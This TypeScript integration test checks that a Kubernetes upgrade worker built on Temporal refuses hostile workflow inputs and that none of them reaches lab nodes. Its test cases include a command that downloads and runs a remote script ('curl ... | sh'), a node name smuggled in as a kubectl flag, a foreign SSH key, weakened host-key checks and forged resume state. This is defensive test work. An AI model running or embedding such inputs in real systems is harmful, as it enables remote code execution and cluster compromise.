/**
 * The worker trusts nothing a workflow's input says about credentials or commands.
 * Each hostile input is started directly through the Temporal client (no CLI, so none of its
 * checks) on a real dev server, with a real worker whose config is the lab's DIR/worker.yaml, on a
 * real lab: each run must fail with an error naming the problem and its fix, and the lab's exec
 * log (DIR/events.jsonl) must show not one session or command. The hostile runs ask for a dry run,
 * so that on a product that does not refuse them they end after their (read-only) preflight
 * instead of waiting at a gate; the carried state asks for no gate at all. A control dry run of
 * the lab's own inventory shows the same worker does run commands for a legitimate input.
 */
import { WorkflowFailedError, type Client } from '@temporalio/client';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { loadInventory, type Inventory } from '../../src/inventory';
import { WORKFLOW_TYPES } from '../../src/shared/names';
import type { UpgradeInput, UpgradeState } from '../../src/shared/types';
import { Lab, type LabEvent } from '../helpers/lab';
import { client, startWorker, uniqueQueue } from '../helpers/temporal';

jest.setTimeout(5 * 60_000);

const sessions = (events: LabEvent[]) => events.filter((e) => e.type === 'ssh' || e.type === 'exec');

describe('the worker refuses hostile workflow inputs', () => {
  let lab: Lab;
  let worker: Awaited<ReturnType<typeof startWorker>>;
  let c: { client: Client; close: () => Promise<void> };
  let base: Inventory;
  let tmp: string;
  const queue = uniqueQueue('trust');

  beforeAll(async () => {
    lab = Lab.up({ controlPlanes: 1, workers: 1, version: '1.29.6', packages: 'yum' });
    worker = await startWorker(queue, lab);
    c = await client();
    base = loadInventory(lab.inventory);
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'kupgrade-trust-'));
  });
  afterAll(async () => {
    await worker?.stop();
    await c?.close();
    lab?.down();
    if (tmp) fs.rmSync(tmp, { recursive: true, force: true });
  });

  function variant(edit: (inv: Inventory) => void): Inventory {
    const inv = JSON.parse(JSON.stringify(base)) as Inventory;
    edit(inv);
    return inv;
  }

  async function run(input: UpgradeInput): Promise<unknown> {
    const handle = await c.client.workflow.start(WORKFLOW_TYPES.upgrade, {
      taskQueue: queue,
      workflowId: uniqueQueue('kupgrade-hostile'),
      args: [input],
    });
    try {
      return await handle.result();
    } catch (err) {
      return err;
    }
  }

  function messageOf(err: unknown): string {
    if (!(err instanceof WorkflowFailedError)) return `not a failed workflow: ${JSON.stringify(err)}`;
    return `${(err.cause as Error | undefined)?.message ?? err.message}`;
  }

  it('refuses each one with an error naming the fix; no command reaches any node', async () => {
    const otherKey = path.join(tmp, 'other-cluster', 'id_ed25519');
    fs.mkdirSync(path.dirname(otherKey), { recursive: true });
    fs.copyFileSync(base.ssh.privateKeyPath, otherKey);
    fs.chmodSync(otherKey, 0o600);
    const freshKnownHosts = path.join(tmp, 'known_hosts');
    fs.writeFileSync(freshKnownHosts, '');
    const dry = { dryRun: true, autoApprove: true };

    const carried: UpgradeState = {
      cluster: base.metadata.name,
      target: 'v1.30.14',
      dryRun: false,
      phase: 'workers',
      stage: 'workers',
      paused: false,
      gates: [],
      autoApprove: true,
      hops: [
        {
          index: 0,
          from: 'v1.29.6',
          minor: '1.30',
          version: 'v1.30.14',
          packages: {
            kubeadm: '1.30.14-150500.1.1',
            kubelet: '1.30.14-150500.1.1',
            kubectl: '1.30.14-150500.1.1',
          },
        },
      ],
      hopIndex: 0,
      window: 1,
      nodes: base.nodes.map((n) => ({
        name: n.name,
        role: n.role,
        status: 'pending',
        attempts: 0,
        cordonedBefore: false,
        cordonedByRun: false,
      })),
      blocked: [],
      failures: [],
      approvals: [],
      decisions: [],
      ignoredSignals: [],
      timings: { startedAt: new Date().toISOString(), phases: [] },
      generation: 1,
      backup: { node: 'cp-1', kubernetesCopy: '/nonexistent', at: new Date().toISOString() },
    };

    const cases: { what: string; input: UpgradeInput; says: RegExp }[] = [
      {
        what: 'a CNI command the worker config does not allow',
        input: {
          inventory: variant((i) => (i.rollout.cni = { command: 'curl -s http://203.0.113.9/x | sh' })),
          target: '1.30',
          options: dry,
        },
        says: /rollout\.cni\.command .*not an allowed CNI command.*allow\.cniCommands/,
      },
      {
        what: "another cluster's key",
        input: { inventory: variant((i) => (i.ssh.privateKeyPath = otherKey)), target: '1.30', options: dry },
        says: /ssh\.privateKeyPath .*is not what this worker's config grants/,
      },
      {
        what: 'accept-new with a fresh known_hosts',
        input: {
          inventory: variant((i) => {
            i.ssh.hostKeyPolicy = 'accept-new';
            i.ssh.knownHostsPath = freshKnownHosts;
          }),
          target: '1.30',
          options: dry,
        },
        says: /ssh\.hostKeyPolicy "accept-new" is not what this worker's config grants/,
      },
      {
        what: 'a host key pinned by the input',
        input: {
          inventory: variant(
            (i) =>
              (i.ssh.hostKeyFingerprints = { 'cp-1': 'SHA256:47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU' }),
          ),
          target: '1.30',
          options: dry,
        },
        says: /ssh\.hostKeyFingerprints\.cp-1 is not pinned/,
      },
      {
        what: 'a node name that is a kubectl flag',
        input: { inventory: variant((i) => (i.nodes[1].name = '--all')), target: '1.30', options: dry },
        says: /nodes\[1\]\.name: .*DNS-1123/,
      },
      {
        what: 'a cluster the worker config does not name',
        input: {
          inventory: variant((i) => (i.metadata.name = 'someone-elses')),
          target: '1.30',
          options: dry,
        },
        says: /cluster "someone-elses" is not in this worker's config .*worker\.yaml.*add clusters\.someone-elses/,
      },
      {
        what: 'a carried state on a first run (skips preflight, backup and gates)',
        input: { inventory: base, target: '1.30', options: { autoApprove: true }, carried },
        says: /carries state .*only this workflow's own continue-as-new/,
      },
    ];

    const before = sessions(lab.events()).length;
    const results: { what: string; refused: boolean; message: string }[] = [];
    for (const k of cases) {
      const message = messageOf(await run(k.input));
      results.push({ what: k.what, refused: k.says.test(message), message });
    }
    // One list, so that a failure shows every case that slipped through, not only the first.
    expect(results.filter((r) => !r.refused)).toEqual([]);
    expect(sessions(lab.events()).slice(before)).toEqual([]);
  });

  it('control: the same worker runs a dry run of the lab inventory (read-only commands)', async () => {
    const before = sessions(lab.events()).length;
    const r = await run({ inventory: base, target: '1.30', options: { dryRun: true } });
    expect(r).toMatchObject({ phase: 'done' });
    expect(sessions(lab.events()).length).toBeGreaterThan(before);
  });

  it('a worker without a config refuses the cluster and names the fix', async () => {
    const q = uniqueQueue('trust-none');
    const bare = await startWorker(q);
    const before = sessions(lab.events()).length;
    try {
      const handle = await c.client.workflow.start(WORKFLOW_TYPES.upgrade, {
        taskQueue: q,
        workflowId: uniqueQueue('kupgrade-noconfig'),
        args: [{ inventory: base, target: '1.30', options: { dryRun: true } }],
      });
      const msg = messageOf(await handle.result().catch((e: unknown) => e));
      expect(msg).toMatch(/this worker has no worker config.*kupgrade worker --config worker\.yaml/);
      expect(sessions(lab.events()).slice(before)).toEqual([]);
    } finally {
      await bare.stop();
    }
  });
});
